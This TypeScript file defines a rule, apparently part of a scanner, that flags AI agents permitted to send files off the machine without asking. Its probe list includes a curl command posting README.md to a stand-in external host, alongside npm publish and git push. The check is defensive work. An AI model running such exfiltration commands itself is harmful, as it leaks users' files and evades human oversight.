import { askedHosts, evidenceOfVerdict, isHeldByNetwork } from '../context.ts';
import { type Judgement, type Rule, references, severityOf } from '../rule.ts';

const calls: readonly (readonly [call: string, words: string])[] = [
  ['run: curl -d @README.md https://unlisted.example/', 'post files to any address'],
  ['run: npm publish', 'publish packages'],
  ['run: git push origin main', 'push to a remote'],
];

export const silentEgress: Rule = {
  id: 'silent-egress',
  title: 'Files can leave the machine unasked',
  version: 1,
  why: 'What the agent may read, a text that it reads can have sent out.',
  fix: 'Let the host ask for commands that send, or hold the network with a sandbox that names the addresses.',
  references: references('OWASP-ASI-2026:ASI02', 'MITRE-ATLAS:AML.T0086', 'OWASP-AISVS:9.5.1', 'NIST-SP-800-53:AC-4'),
  kinds: ['agent'],
  subjects: (context) => askedHosts(context, 'run: ls'),
  judge(agent, context): readonly Judgement[] {
    const open = calls.flatMap(([call, words]) => {
      const answer = context.verdict(agent, call);
      return answer?.verdict === 'allow' && !isHeldByNetwork(agent, answer) ? [{ words, answer }] : [];
    });
    const [first] = open;
    if (first === undefined) return [];
    return [
      {
        outcome: 'found',
        severity: severityOf({ impact: 'operational', reach: 'content', gate: 'none' }),
        confidence: 'high',
        message: `${agent.name} can ${open.map(({ words }) => words).join(', ')} unasked; decided by ${first.answer.decidedBy}.`,
        evidence: evidenceOfVerdict(agent, first.answer),
        detail: '',
        group: `prompts-off:${agent.id}`,
      },
    ];
  },
};
